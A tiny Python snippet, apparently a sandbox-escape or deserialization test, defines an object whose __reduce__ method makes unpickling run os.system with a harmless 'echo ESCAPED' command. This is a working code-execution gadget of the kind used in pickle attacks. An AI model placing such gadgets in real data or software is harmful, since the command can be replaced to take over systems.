def f(x):
    class A:
        def __reduce__(self): import os; return os.system, ('echo ESCAPED',)
    return A()
